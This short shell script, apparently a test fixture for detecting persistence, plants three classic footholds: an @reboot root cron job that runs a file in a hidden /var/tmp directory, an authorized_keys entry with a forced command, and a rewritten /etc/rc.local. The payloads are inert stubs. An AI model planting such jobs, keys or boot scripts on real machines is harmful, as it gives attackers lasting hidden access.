# A job that runs something hidden, a key with a command, and a start-up script.
prepare() { mkdir -p /etc/cron.d /home/ana/.ssh; }
act() {
    echo '@reboot root /var/tmp/.x/run' >/etc/cron.d/tidy
    echo 'command="/bin/true" ssh-ed25519 AAAA nobody' >>/home/ana/.ssh/authorized_keys
    printf '#!/bin/sh\nexit 0\n' >/etc/rc.local
}
